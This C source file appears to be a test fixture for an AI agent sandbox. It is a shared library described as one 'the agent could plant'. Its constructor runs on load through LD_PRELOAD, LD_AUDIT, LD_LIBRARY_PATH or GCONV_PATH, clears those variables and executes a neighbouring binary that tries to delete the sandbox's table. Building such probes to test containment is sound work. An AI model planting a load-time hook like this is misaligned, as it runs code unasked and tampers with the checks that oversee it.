/* SPDX-License-Identifier: GPL-3.0-or-later
 * A library the agent could plant in the project: whoever loads it (LD_PRELOAD,
 * LD_AUDIT, LD_LIBRARY_PATH, GCONV_PATH) runs bin/so beside its directory, which
 * marks who ran it and tries to delete the sandbox's table. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

unsigned int la_version(unsigned int version) { return version; }  /* an audit library too */

__attribute__((constructor)) static void planted(void) {
    Dl_info info;
    char copy[PATH_MAX], command[PATH_MAX + 16];
    static const char *loaders[] = {"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "GCONV_PATH"};
    for (size_t i = 0; i < sizeof loaders / sizeof *loaders; i++)
        unsetenv(loaders[i]);
    if (!dladdr((void *)planted, &info) || !info.dli_fname)
        return;
    snprintf(copy, sizeof copy, "%s", info.dli_fname);
    snprintf(command, sizeof command, "%s/../bin/so", dirname(copy));
    if (system(command) < 0)
        perror("planted");
}
